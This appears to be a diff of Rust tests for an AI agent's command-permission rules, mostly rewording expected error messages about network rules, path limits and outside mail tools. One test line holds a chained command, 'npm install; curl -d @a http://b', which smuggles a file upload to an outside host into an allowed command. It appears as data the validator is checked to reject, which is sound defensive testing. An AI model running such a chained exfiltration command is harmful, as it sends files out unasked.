@@ -110,10 +110,10 @@ matches = [{ command = "npm install left-pad" }]
     assert!(network("npm install left-pad"));
     assert!(!network("npm run build") && !network("npm install; curl -d @a http://b") && !network("npm install > $X"));
     let denies = text.replace("allow", "deny");
-    assert!(rules(&denies).unwrap_err().to_string().contains("`network` belongs"));
-    // Such a rule could grant nothing, because the files that a command uses are unknown.
+    assert!(rules(&denies).unwrap_err().to_string().contains("`network` is only valid"));
+    // Such a rule could not grant anything, because the files used by a command are unknown.
     let by_paths = text.replace("allow", "ask").replace("network", "paths = [\"src/**\"]\nnetwork");
-    assert!(rules(&by_paths).unwrap_err().to_string().contains("paths do not bound a command"));
+    assert!(rules(&by_paths).unwrap_err().to_string().contains("paths do not limit a command"));
 }
 
 #[test]
@@ -155,7 +155,7 @@ fn a_rule_that_fails_its_example_is_named() {
     let rule = |line: &str| format!("[[rules]]\ntool = \"run_command\"\ndecision = \"allow\"\n{line}");
     check(
         &rule("arguments = { command = \"cargo test\" }\nmatches = [{ command = \"cargo build\" }]"),
-        &["config.toml:5:", "rule of line 1 does not match its example", "cargo build"],
+        &["config.toml:5:", "rule on line 1 does not match its example", "cargo build"],
     );
     check(
         &rule(
@@ -163,7 +163,7 @@ fn a_rule_that_fails_its_example_is_named() {
         ),
         &["config.toml:7:", "cargo publish", "must not"],
     );
-    check(&rule("paths = [\"src/**\"]\nmatches = [{ command = \"ls\" }]"), &["paths do not bound a command"]);
+    check(&rule("paths = [\"src/**\"]\nmatches = [{ command = \"ls\" }]"), &["paths do not limit a command"]);
     let several = "[[rules]]\ntool = \"*\"\ndecision = \"ask\"\nmatches = [{ path = \"a\" }]";
     check(several, &["needs a `tool`"]);
     check("[[rules]]\ntool = \"[\"\ndecision = \"ask\"\nmatches = [{ path = \"a\" }]", &["not a pattern"]);
@@ -325,7 +325,7 @@ fn a_command_is_repeated_on_a_copy_only_where_one_consent_is_enough() {
 fn a_tool_from_outside_that_calls_itself_reading_is_not_believed() {
     let policy = Policy::of(ApproveMode::OnMutation);
     let verdict = policy.assess(&call("mail.sendMessage", json!({})), &spec("mail.sendMessage"));
-    assert_eq!(verdict, Verdict::Ask { reason: "mail.sendMessage: its name says `send`".to_owned() });
+    assert_eq!(verdict, Verdict::Ask { reason: "mail.sendMessage: its name contains `send`".to_owned() });
     let spec = ToolSpec { server: "mail".to_owned(), ..spec("mail.read") };
     let Verdict::Ask { reason } = policy.assess(&call("mail.read", json!({})), &spec) else { panic!("allowed") };
     assert!(reason.contains("the server `mail`"), "{reason}");
@@ -333,7 +333,7 @@ fn a_tool_from_outside_that_calls_itself_reading_is_not_believed() {
     assert_eq!(policy.assess(&call("mail.read", json!({})), &spec), Verdict::Allow);
     let spec = ToolSpec { destructive: true, ..spec };
     let Verdict::Ask { reason } = policy.assess(&call("mail.read", json!({})), &spec) else { panic!("allowed") };
-    assert!(reason.contains("the server `mail` says that it may destroy"), "{reason}");
+    assert!(reason.contains("the server `mail` reports that it may destroy"), "{reason}");
 }
 
 #[test]
